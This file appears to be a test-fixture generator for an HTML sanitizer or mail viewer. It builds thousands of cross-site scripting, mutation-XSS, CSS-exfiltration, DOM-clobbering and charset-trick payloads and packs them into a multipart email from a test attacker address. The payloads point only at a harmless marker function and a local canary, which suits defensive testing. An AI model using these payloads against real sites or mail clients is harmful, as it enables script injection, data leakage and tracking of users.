// Hostile HTML for the tests: the public classes of cross-site scripting, of mutation by parsing twice, and of fetching
// what nobody asked for, each crossed with the ways to write it. Deterministic; our own. Each payload says who it is:
// a script calls hit("ID"), a fetch asks CANARY/ID. As a program it writes them to files:
//   node test/lib/hostile.mjs FOLDER
import fs from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";

const voids = ["img", "input", "br", "hr", "wbr", "embed", "area", "source", "track", "link", "meta", "base", "col", "param",
  "keygen", "frame", "image", "bgsound"];
const elements = ["a", "abbr", "article", "aside", "audio", "b", "blockquote", "body", "button", "canvas", "center", "code",
  "details", "dialog", "div", "dl", "embed", "fieldset", "font", "form", "frameset", "h1", "hr", "iframe", "image", "img",
  "input", "isindex", "keygen", "label", "li", "link", "main", "map", "marquee", "math", "menu", "meter", "nav", "object", "ol",
  "option", "p", "picture", "portal", "pre", "section", "select", "slot", "source", "span", "style", "summary", "svg", "table",
  "td", "textarea", "tr", "ul", "unknown-one", "video", "xmp"];
const events = ["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpageshow",
  "onbeforescriptexecute", "onscrollend", "onpointerrawupdate", "oncontentvisibilityautostatechange"];

// One class a generator; `c` gives what a payload needs: c.run a script, c.at an address of the canary.
function* handlers(c) {
  for (const el of elements)
    for (const ev of events) {
      const end = voids.includes(el) ? "" : `x</${el}>`;
      yield `<${el} ${ev}="${c.run}" src="${c.at}" href="${c.at}" tabindex=0 autofocus contenteditable style="animation:a 1s">${end}`;
    }
}

const schemes = (c) => [`javascript:${c.run}`, `JaVaScRiPt:${c.run}`, ` javascript:${c.run}`, `java\tscript:${c.run}`,
  `java\nscript:${c.run}`, `\u0001javascript:${c.run}`, `&#106;avascript:${c.run}`, `&#x6A&#x61vascript:${c.run}`,
  `javascript&colon;${c.run}`, `java&Tab;script:${c.run}`, `jav&NewLine;ascript:${c.run}`, `vbscript:${c.run}`,
  `data:text/html,<script>${c.run}</script>`, `data:text/html;base64,${Buffer.from(`<script>${c.run}</script>`).toString("base64")}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c.run}'/>`, `//${c.host}/${c.id}`, `\\\\${c.host}\\${c.id}`,
  `/\\${c.host}/${c.id}`, `feed:javascript:${c.run}`, `blob:${c.at}`, `filesystem:${c.at}`, `cid:x" onerror="${c.run}`,
  `https:javascript:${c.run}`, `mailto:x"onfocus="${c.run}"autofocus="`, `http://x" onmouseover="${c.run}`, `view-source:${c.at}`];
const places = [["a", "href"], ["area", "href"], ["img", "src"], ["img", "lowsrc"], ["img", "dynsrc"], ["img", "srcset"],
  ["iframe", "src"], ["iframe", "srcdoc"], ["embed", "src"], ["object", "data"], ["form", "action"], ["button", "formaction"],
  ["input", "src"], ["video", "poster"], ["audio", "src"], ["body", "background"], ["table", "background"], ["td", "background"],
  ["link", "href"], ["base", "href"], ["svg", "xlink:href"], ["blockquote", "cite"]];
function* addresses(c) {
  for (const [el, attribute] of places)
    for (const s of schemes(c)) yield `<${el} ${attribute}="${s}" ${attribute === "href" ? "ping" : "alt"}="${c.at}">text</${el}>`;
}

// What a parser leaves and enters: each makes the next one be read by other rules.
const wrappers = ["svg", "math", "style", "noscript", "template", "textarea", "title", "xmp", "iframe", "noembed", "noframes",
  "select", "table", "foreignObject", "desc", "mtext", "mi", "mglyph", "annotation-xml encoding=text/html", "p", "form", "a",
  "plaintext", "listing", "caption", "option", "button", "nobr", "font", "dl"];
const openers = (c) => [`<style><!--</style><img src=x onerror="${c.run}">-->`, `<img title="--&gt;&lt;img src=x onerror=${c.run}&gt;">`,
  `<![CDATA[><img src=x onerror="${c.run}">]]>`, `<!--></style><img src=${c.at} onerror="${c.run}">-->`];
function* nestings(c) {
  const shut = (w) => `</${w.split(" ")[0]}>`;
  let n = 0;
  for (const outer of wrappers)
    for (const inner of wrappers) {
      const open = openers(c)[n++ % 4];
      yield `<${outer}><${inner}>${open}${n % 2 ? shut(inner) + shut(outer) : shut(outer)}<img src=x onerror="${c.run}">`;
    }
}

function* knownMutations(c) {
  const img = `<img src=x onerror=${c.run}>`;
  const entity = `&lt;img src=x onerror=${c.run}&gt;`;
  yield `<form><math><mtext></form><form><mglyph><style></math>${img}`;
  yield `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${entity}">`;
  yield `<svg></p><style><a id="</style>${img}">`;
  yield `<svg><p><style><g title="</style>${img}">`;
  yield `<noscript><p title="</noscript>${img}">`;
  yield `<math><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math>`;
  yield `<svg><foreignObject><p></svg>${img}`;
  yield `<listing>&lt;/listing>${img}</listing>`;
  yield `<xmp><svg></xmp>${img}`;
  yield `<table><tr><td><svg><desc><td>${img}`;
  yield `<select><noembed></select><script>${c.run}</script>`;
  yield `<template><style></template>${img}`;
  yield `<a href="x"><table><a href="javascript:${c.run}">`;
  yield `<b><table><td><b>${"<b>".repeat(500)}${img}`;
  yield `${"<div>".repeat(520)}<svg><style>${img}`;
  yield `<p>${"<font>".repeat(300)}<table>${img}`;
  yield `<svg><title><style>${img}</style></title></svg>`;
  yield `<math><mi//xlink:href="data:x,<script>${c.run}</script>">`;
  yield `<svg><set attributeName=onmouseover to="${c.run}"></svg>`;
  yield `<svg><animate onbegin="${c.run}" attributeName=x dur=1s></svg>`;
  yield `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${c.run}</script></svg>#x"></svg>`;
  yield `<svg><a xlink:href="javascript:${c.run}"><text>x</text></a></svg>`;
  yield `<svg><script href="data:,${c.run}"/>`;
  yield `<svg><image href="${c.at}" onerror="${c.run}"/></svg>`;
  yield `<svg><filter><feImage href="${c.at}"/></filter></svg>`;
  yield `<?xml version="1.0"?><?xml-stylesheet href="${c.at}"?><script xmlns="http://www.w3.org/1999/xhtml">${c.run}</script>`;
  yield `<!DOCTYPE x [<!ENTITY e "<script>${c.run}</script>">]>&e;`;
  yield `<html xmlns:t="urn:x"><t:script>${c.run}</t:script>`;
  yield `<ruby><rt><svg><style></rt>${img}`;
  yield `<details open ontoggle=${c.run}><summary><math><style></summary>${img}`;
}

function* quoting(c) {
  const gaps = [" ", "\t", "\n", "\f", "/", "//", "\u00a0", "\u000b", "", "/x/", "\u0000", "\r\n"];
  const quotes = [['"', '"'], ["'", "'"], ["`", "`"], ["", ""], ['"', ""], ["'", '"'], ["\u201c", "\u201d"], ["=", ""]];
  for (const gap of gaps)
    for (const [open, close] of quotes) yield `<img${gap}src=x${gap || " "}onerror=${open}${c.run}${close}>`;
  for (const name of ["on\u0000error", "ONERROR", "onerror\u0000", "x:onerror", "on&#101;rror", "\u017fnerror", "onerror\n", "\"onerror"])
    yield `<img src=x ${name}="${c.run}">`;
  for (const tag of ["<IMG", "<\u0000img", "<i\u0000mg", "< img", "<<img", "<img/", "<%00img", "\uff1cimg", "<img\u3000", "&lt;img", "\\u003cimg",
    "\u2039img", "<!img", "<?img", "</img", "<!--><img", "<!--->-><img", "<![if !IE]><img", "<!-- --!><img"])
    yield `${tag} src=x onerror="${c.run}">`;
}

function* entities(c) {
  const write = (s, form) => [...s].map((ch) => form(ch.charCodeAt(0))).join("");
  const forms = [(n) => `&#${n};`, (n) => `&#${n}`, (n) => `&#x${n.toString(16)};`, (n) => `&#x0000${n.toString(16)};`,
    (n) => `&#0000${n};`, (n) => `&amp;#${n};`, (n) => `%${n.toString(16)}`, (n) => `\\x${n.toString(16)}`, (n) => `\\u00${n.toString(16)}`];
  for (const form of forms) {
    yield `<img src=x onerror="${write(c.run, form)}">`;
    yield `<a href="${write("javascript:", form)}${c.run}">x</a>`;
    yield write(`<script>${c.run}</script>`, form);
    yield `<p title="${write(`"><script>${c.run}</script>`, form)}">x</p>`;
  }
  for (const e of ["&lt", "&LT;", "&#60", "&#x3c;", "&lt;;", "&nvlt;", "&lsaquo;", "&#1114172;", "&#-196;"])
    yield `${e}script>${c.run}${e}/script>`;
}

function* styles(c) {
  const rules = [`background:url(${c.at})`, `background:url("${c.at}")`, `background-image:image-set("${c.at}" 1x)`, `list-style:url(${c.at})`,
    `cursor:url(${c.at}),auto`, `content:url(${c.at})`, `border-image:url(${c.at})`, `mask:url(${c.at})`, `filter:url(${c.at}#f)`,
    `-moz-binding:url(${c.at})`, `behavior:url(${c.at})`, `width:expression(${c.run})`, `b\\61ckground:u\\72l(${c.at})`,
    `background:url(javascript:${c.run})`, `/**/background:/**/url(${c.at})`, `position:fixed;inset:0;background:url(//${c.host}/${c.id})`,
    `src:url(${c.at})`, `--x:url(${c.at});background:var(--x)`, `offset-path:url(${c.at})`, `shape-outside:url(${c.at})`];
  for (const r of rules) {
    yield `<p style="${r.replaceAll('"', "&quot;")}">x</p>`;
    yield `<style>*{${r}}</style><p>x</p>`;
    yield `<style>@import "${c.at}";@font-face{font-family:x;src:url(${c.at})}p{font-family:x;${r}}</style><p>x</p>`;
    yield `<svg><style>*{${r}}</style><rect width=9 height=9 /></svg>`;
  }
  for (const s of [`<style>@import url(${c.at});</style>`, `<link rel=stylesheet href=${c.at}>`, `<style>@import'${c.at}'</style>`,
    `<style>input[value^=a]{background:url(${c.at})}</style><input value=a>`, `<style><!--</style><script>${c.run}</script>--></style>`,
    `<div style="x:'</style><img src=x onerror=${c.run}>'">`, `<style>@namespace x url(${c.at});</style>`, `<style>@\\69mport "${c.at}"</style>`])
    yield s;
}

function* fetches(c) {
  for (const rel of ["stylesheet", "preload", "prefetch", "preconnect", "dns-prefetch", "icon", "manifest", "modulepreload", "import", "prerender",
    "alternate stylesheet", "apple-touch-icon", "search", "next", "pingback"])
    yield `<link rel="${rel}" href="${c.at}" as=image type=text/css onload="${c.run}">`;
  for (const s of [`<meta http-equiv=refresh content="0;url=${c.at}">`, `<meta http-equiv=refresh content="0;javascript:${c.run}">`,
    `<meta http-equiv=Link content="<${c.at}>; rel=stylesheet">`, `<meta http-equiv=Set-Cookie content=a=b>`,
    `<meta http-equiv=Content-Security-Policy content="img-src *">`, `<base href="${c.at}/"><img src=x>`, `<base target=_top><a href=/>x</a>`,
    `<img src=${c.at}>`, `<img srcset="${c.at} 1x, ${c.at}2 2x">`, `<picture><source srcset=${c.at}><img src=x></picture>`,
    `<img src=x loading=eager><img src="${c.at}" width=1 height=1>`, `<image src=${c.at}>`, `<input type=image src=${c.at}>`,
    `<video src=${c.at} autoplay></video>`, `<video poster=${c.at}></video>`, `<video><source src=${c.at}></video>`, `<audio src=${c.at} autoplay>`,
    `<track src=${c.at}>`, `<iframe src=${c.at}></iframe>`, `<iframe srcdoc="<img src=${c.at}>"></iframe>`, `<frameset><frame src=${c.at}></frameset>`,
    `<object data=${c.at}></object>`, `<object classid=${c.at}><param name=src value=${c.at}></object>`, `<embed src=${c.at}>`,
    `<applet code=x archive=${c.at}></applet>`, `<portal src=${c.at}></portal>`, `<fencedframe src=${c.at}></fencedframe>`, `<bgsound src=${c.at}>`,
    `<script src=${c.at}></script>`, `<script type=module src=${c.at}></script>`, `<script type=importmap>{"imports":{"x":"${c.at}"}}</script>`,
    `<script type=speculationrules>{"prefetch":[{"urls":["${c.at}"]}]}</script>`, `<script>${c.run}</script>`, `<script nomodule>${c.run}</script>`,
    `<script/x>${c.run}</script>`, `<scr<script>ipt>${c.run}</script>`, `<script>${c.run}`, `<svg><script>${c.run}</script></svg>`,
    `<svg><script>${c.run.replaceAll("(", "&lpar;")}</script></svg>`, `<body background=${c.at} onload=${c.run}>`, `<table background=${c.at}><tr><td>x</table>`,
    `<form action=${c.at}><input name=a value=b autofocus onfocus=${c.run}></form>`, `<form id=f action=${c.at}></form><button form=f>x</button>`,
    `<isindex action=${c.at} type=image src=${c.at}>`, `<a href=${c.at} ping=${c.at}>x</a>`, `<a href="${c.at}" download>x</a>`, `<a href=# onclick=${c.run}>x</a>`,
    `<link rel=stylesheet href="data:text/css,*{background:url(${c.at})}">`, `<xml id=x src=${c.at}></xml><span datasrc=#x>`, `<layer src=${c.at}></layer>`,
    `<ilayer src=${c.at}></ilayer>`, `<div background=${c.at}>x</div>`, `<marquee onstart=${c.run}>x</marquee>`, `<model src=${c.at}></model>`,
    `<img src=x usemap=#m><map name=m><area shape=default href=${c.at}></map>`, `<keygen autofocus onfocus=${c.run}>`, `<dialog open onclose=${c.run}>x</dialog>`,
    `<html manifest=${c.at}>`, `<img src="cid:x" onerror=${c.run}>`, `<img src="cid:remote-0@longhand" onload=${c.run}>`, `<img src="CID:${c.at}">`,
    `<img src=cid:${c.at}>`, `<img src="cid:&quot;><script>${c.run}</script>">`, `<img src=data:image/svg+xml,%3Csvg/onload=${c.run}%3E>`,
    `<details open ontoggle=${c.run}>x</details>`, `<div popover id=p onbeforetoggle=${c.run}>x</div><button popovertarget=p autofocus>x</button>`,
    `<template shadowrootmode=open><img src=${c.at} onerror=${c.run}></template>`, `<div><template shadowrootmode=open><slot onslotchange=${c.run}></slot></template>x</div>`,
    `<x-y is=script>${c.run}</x-y>`, `<object type=text/html data="data:text/html,<script>${c.run}</script>">`])
    yield s;
  for (const name of ["csrf", "attributes", "body", "forms", "location", "cookie", "getElementById", "innerHTML", "parentNode", "hit", "__proto__"])
    for (const el of ["form", "img", "a", "object"]) yield `<${el} id=${name} name=${name} href=${c.at} src=x><input name=${name}></${el}>`;
}

// In these charsets the bytes of some text are tags; the part is sent under the name.
function* charsets(c) {
  const script = `<script>${c.run}</script>`;
  const utf7 = script.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-");
  for (const name of ["utf-7", "unicode-1-1-utf-7", "iso-8859-1", "us-ascii", "x-user-defined", "utf-8", ""])
    yield { charset: name, html: `${utf7}<p title="+ACI-+AD4-">${utf7}` };
  for (const name of ["iso-2022-jp", "iso-2022-kr", "hz-gb-2312", "shift_jis", "gb18030", "big5", "euc-jp", "koi8-r", "windows-1252", "utf-16"]) {
    yield { charset: name, html: `<img alt="\u001b$B"src=x onerror="${c.run}">` };
    yield { charset: name, html: `<p title="\u001b(J\\"><img src=x onerror=${c.run}>">x</p>` };
    yield { charset: name, bytes: Buffer.concat([Buffer.from("<p title=\""), Buffer.from([0x81]), Buffer.from(`"><img src=x onerror=${c.run}>">`)]) };
  }
  yield { charset: "utf-8", bytes: Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from("script"), Buffer.from([0xc0, 0xbe]), Buffer.from(c.run)]) };
  yield { charset: "utf-8", bytes: Buffer.concat([Buffer.from([0xe0, 0x80, 0xbc]), Buffer.from(`img src=x onerror=${c.run}`), Buffer.from([0xe0, 0x80, 0xbe])]) };
  yield { charset: "us-ascii", bytes: Buffer.from([...Buffer.from(script)].map((b) => b | 0x80)) };
  yield { charset: "utf-16le", bytes: Buffer.from(script, "utf16le") };
  yield { charset: "utf-8", bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(script, "utf16le")]) };
  yield { charset: "utf-32le", bytes: Buffer.from([...Buffer.from(script)].flatMap((b) => [b, 0, 0, 0])) };
}

const classes = { handlers, addresses, nestings, knownMutations, quoting, entities, styles, fetches, charsets };

/** All payloads: {id, kind, charset, bytes}. `canary` is "host:port". */
export function payloads(canary) {
  const all = [];
  for (const [kind, make] of Object.entries(classes)) {
    // How many there are is known when one has been through; each then gets its own name.
    const count = [...make(context("x", canary))].length;
    for (let i = 0; i < count; i++) {
      const id = `${kind}-${i}`;
      const one = nth(make(context(id, canary)), i);
      const part = typeof one === "string" ? { charset: "utf-8", html: one } : one;
      all.push({ id, kind, charset: part.charset, bytes: part.bytes ?? Buffer.from(part.html, "utf8") });
    }
  }
  return all;
}

function context(id, canary) {
  return { id, host: canary, at: `http://${canary}/${id}`, run: `hit(/${id}/.source)` };
}

function nth(sequence, n) {
  for (const x of sequence) if (n-- === 0) return x;
  throw new Error("there are fewer");
}

/** One letter with many payloads, each an HTML part of its own; the desk reads each by itself. */
export function letterOf(some, subject, inbox) {
  const boundary = "----of-the-hostile-letter";
  const head = [`From: Mallory <mallory@evil.test>`, `To: ${inbox}`, `Subject: ${subject}`, `Message-ID: <${subject.replace(/\W/g, ".")}@evil.test>`,
    "MIME-Version: 1.0", `Content-Type: multipart/mixed; boundary="${boundary}"`, "", ""].join("\r\n");
  const parts = some.map((p) => Buffer.concat([Buffer.from(`--${boundary}\r\nContent-Type: text/html${p.charset ? `; charset=${p.charset}` : ""}\r\n` +
    "Content-Transfer-Encoding: base64\r\n\r\n"), Buffer.from(p.bytes.toString("base64").replace(/.{76}/g, "$&\r\n") + "\r\n")]));
  return Buffer.concat([Buffer.from(head), ...parts, Buffer.from(`--${boundary}--\r\n`)]);
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const to = process.argv[2];
  const all = payloads("127.0.0.1:9");
  fs.mkdirSync(to, { recursive: true });
  for (const p of all) fs.writeFileSync(path.join(to, p.id), p.bytes);
  console.log(`${all.length} payloads of ${Object.keys(classes).length} classes`);
}
